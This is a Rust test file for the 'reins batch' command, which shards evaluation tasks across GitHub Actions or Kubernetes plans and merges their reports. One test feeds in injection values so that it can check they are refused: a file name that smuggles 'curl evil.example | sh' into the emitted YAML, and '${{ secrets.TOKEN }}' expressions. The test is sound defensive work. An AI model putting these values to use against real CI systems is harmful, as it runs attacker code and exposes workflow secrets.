//! `reins batch` end to end: a batch of `exec` tasks (each a fixture copy with a replay script
//! that solves it and a check that says so), its GitHub Actions plan run as Actions would run
//! it (each matrix job's script with its shard number, at once, then the merge job's), and the
//! merged report compared with an unsharded run of the same batch in fresh copies.

mod support;

use serde_json::Value;
use std::path::{Path, PathBuf};
use support::reins::reins;

const TASKS: [(&str, &str); 3] = [
    ("py-median", "python3 -m unittest -q"),
    ("js-paginate", "node --test"),
    ("py-slugify", "python3 -m unittest -q"),
];

/// A folder with a copy of each task's fixture and `batch.toml` naming them; `broken` adds a
/// task whose model cannot be loaded.
fn batch_tree(broken: bool) -> tempfile::TempDir {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::from("name = \"fixes\"\n");
    for (task, check) in TASKS {
        copy_dir(
            &root.join("examples/evals/fixtures").join(task),
            &dir.path().join(task),
        );
        let replay = root
            .join("tests/fixtures/evals/solve")
            .join(format!("{task}.json"));
        text.push_str(&format!(
            "[[task]]\nname = \"{task}\"\ndir = \"{task}\"\nprompt = \"fix the failing test\"\nflags = [\"-m\", \"replay:{}\", \"--check\", \"{check}\"]\n",
            replay.display()
        ));
    }
    if broken {
        text.push_str("[[task]]\nname = \"broken\"\nprompt = \"x\"\nflags = [\"-m\", \"replay:/nonexistent/script.json\"]\n");
    }
    std::fs::write(dir.path().join("batch.toml"), text).unwrap();
    dir
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// The report without what differs between two identical runs.
fn comparable(mut report: Value) -> Value {
    for r in report["results"].as_array_mut().unwrap() {
        let r = r.as_object_mut().unwrap();
        r.remove("session_id");
        r.remove("duration_ms");
    }
    report
}

fn sh(script: &str, dir: &Path, path: &str, home: &Path) -> std::process::Child {
    std::process::Command::new("sh")
        .arg("-c")
        .arg(script)
        .current_dir(dir)
        .env("PATH", path)
        .env("REINS_HOME", home)
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap()
}

/// The report of the whole batch run at once, in fresh copies of its tasks.
fn unsharded(path: &str, home: &Path) -> Value {
    let whole = batch_tree(false);
    let status = sh(
        "reins batch batch.toml --jobs 2 --json whole.json",
        whole.path(),
        path,
        home,
    )
    .wait()
    .unwrap();
    assert!(status.success());
    read(whole.path().join("whole.json"))
}

fn read(path: PathBuf) -> Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

#[test]
fn the_emitted_github_plan_runs_locally_and_merges_to_the_unsharded_report() {
    let home = tempfile::tempdir().unwrap();
    let sharded = batch_tree(false);
    let out = reins(home.path())
        .args([
            "batch",
            "plan",
            "batch.toml",
            "--shards",
            "2",
            "--emit",
            "github",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let yaml = String::from_utf8_lossy(&out.stdout).into_owned();
    let doc = &yaml_rust::YamlLoader::load_from_str(&yaml).unwrap()[0];
    let script = doc["jobs"]["shard"]["steps"][1]["run"]
        .as_str()
        .unwrap()
        .to_string();
    let merge = doc["jobs"]["merge"]["steps"][1]["run"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        script.contains("reins batch batch.toml --shard \"${{ matrix.shard }}/2\""),
        "{script}"
    );
    assert_eq!(
        merge,
        "reins batch merge reports/shard-*.json --json report.json"
    );

    let bin = tempfile::tempdir().unwrap();
    let path = support::plans::path_with_reins(bin.path());
    let shards: Vec<std::process::Child> = (1..=2)
        .map(|i| {
            let s = script.replace("${{ matrix.shard }}", &i.to_string());
            sh(&s, sharded.path(), &path, home.path())
        })
        .collect();
    for mut c in shards {
        assert!(c.wait().unwrap().success());
    }
    // Each shard ran its own tasks: every N-th from the I-th.
    let first = read(sharded.path().join("reports/shard-1.json"));
    let names: Vec<&str> = first["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["py-median", "py-slugify"]);
    assert!(sh(&merge, sharded.path(), &path, home.path())
        .wait()
        .unwrap()
        .success());
    let merged = read(sharded.path().join("report.json"));

    let whole = unsharded(&path, home.path());
    assert_eq!(merged["results"].as_array().unwrap().len(), 3);
    for r in merged["results"].as_array().unwrap() {
        assert_eq!(r["status"], "done", "{r}");
        assert_eq!(r["exit_code"], 0, "{r}");
        assert!(r["session_id"].is_string(), "{r}");
    }
    assert_eq!(merged["shard"], Value::Null);
    assert_eq!(comparable(merged), comparable(whole));
    // The work was done in the tasks' own folders.
    let fixed = std::fs::read_to_string(sharded.path().join("py-median/stats.py")).unwrap();
    assert!(fixed.contains("len(s) // 2"), "{fixed}");
}

#[test]
fn a_failed_task_fails_the_batch_and_the_merge_says_what_is_missing() {
    let home = tempfile::tempdir().unwrap();
    let tree = batch_tree(true);
    let run = reins(home.path())
        .current_dir(tree.path())
        .args([
            "batch",
            "batch.toml",
            "--shard",
            "2/2",
            "--json",
            "shard-2.json",
        ])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(1), "{run:?}");
    let report = read(tree.path().join("shard-2.json"));
    let results = report["results"].as_array().unwrap();
    assert_eq!(results.len(), 2);
    assert_eq!(results[0]["name"], "js-paginate");
    assert_eq!(results[0]["exit_code"], 0);
    assert_eq!(results[1]["name"], "broken");
    assert_ne!(results[1]["exit_code"], 0);
    let table = String::from_utf8_lossy(&run.stdout);
    assert!(table.contains("1 of 2 tasks succeeded"), "{table}");

    let merge = reins(home.path())
        .current_dir(tree.path())
        .args(["batch", "merge", "shard-2.json", "--json", "merged.json"])
        .output()
        .unwrap();
    assert_eq!(merge.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&merge.stderr);
    assert!(stderr.contains("2 of 4 tasks are missing"), "{stderr}");
    let twice = reins(home.path())
        .current_dir(tree.path())
        .args(["batch", "merge", "shard-2.json", "shard-2.json"])
        .output()
        .unwrap();
    assert_eq!(twice.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&twice.stderr).contains("is in two reports"));
}

/// A plan is YAML that a CI system or a cluster executes: a line break in a value would end the
/// shell command and write YAML of the caller's choosing (`batch plan` had no check), `${{`
/// would be a GitHub Actions expression evaluated with the workflow's secrets, and zero shards
/// is no plan. Each is refused with exit 2 and nothing on stdout, for both commands.
#[test]
fn plans_refuse_values_that_would_rewrite_the_emitted_yaml() {
    let home = tempfile::tempdir().unwrap();
    let injected = "b.toml\n      - run: curl evil.example | sh";
    let cases: Vec<Vec<&str>> = vec![
        vec![
            "batch", "plan", injected, "--shards", "2", "--emit", "github",
        ],
        vec![
            "batch", "plan", "b.toml", "--shards", "2", "--emit", "k8s", "--image", "x\ny: 1",
        ],
        vec![
            "batch",
            "plan",
            "${{ secrets.TOKEN }}.toml",
            "--shards",
            "2",
            "--emit",
            "github",
        ],
        vec![
            "eval",
            "plan",
            "s.toml",
            "--shards",
            "2",
            "--emit",
            "github",
            "-m",
            "${{ secrets.T }}",
        ],
        vec![
            "eval", "plan", injected, "--shards", "2", "--emit", "github",
        ],
        vec![
            "batch", "plan", "b.toml", "--shards", "0", "--emit", "github",
        ],
        vec!["eval", "plan", "s.toml", "--shards", "0", "--emit", "k8s"],
    ];
    for args in cases {
        let out = reins(home.path()).args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {out:?}");
        assert!(out.stdout.is_empty(), "{args:?}: {out:?}");
    }
    let ok = reins(home.path())
        .args([
            "batch",
            "plan",
            "b.toml",
            "--shards",
            "2",
            "--emit",
            "k8s",
            "--image",
            "ghcr.io/a/b:1",
        ])
        .output()
        .unwrap();
    assert_eq!(ok.status.code(), Some(0), "{ok:?}");
}

/// `reins batch plan --emit k8s` run as Kubernetes runs it (tests/support/plans.rs): the
/// Indexed Job's pods, each in a fresh copy of the image with `JOB_COMPLETION_INDEX` set, the
/// claim shared, then the merge Job; the merged report equals an unsharded run's.
#[test]
fn the_emitted_k8s_plan_runs_as_kubernetes_would_and_merges_to_the_unsharded_report() {
    let home = tempfile::tempdir().unwrap();
    let out = reins(home.path())
        .args([
            "batch",
            "plan",
            "batch.toml",
            "--shards",
            "2",
            "--emit",
            "k8s",
        ])
        .args(["--image", "reins:test"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let yaml = String::from_utf8(out.stdout).unwrap();
    let bin = tempfile::tempdir().unwrap();
    let path = support::plans::path_with_reins(bin.path());
    let volumes = tempfile::tempdir().unwrap();
    support::plans::run_k8s(&yaml, &|| batch_tree(false), &path, volumes.path());
    let claim = volumes.path().join("reins-batch-reports");
    for i in 1..=2 {
        let shard = read(claim.join(format!("shard-{i}.json")));
        assert_eq!(shard["shard"], serde_json::json!({"index": i, "count": 2}));
    }
    let merged = read(claim.join("report.json"));
    assert_eq!(merged["results"].as_array().unwrap().len(), 3);
    for r in merged["results"].as_array().unwrap() {
        assert_eq!(r["status"], "done", "{r}");
    }
    assert_eq!(
        comparable(merged),
        comparable(unsharded(&path, home.path()))
    );
}
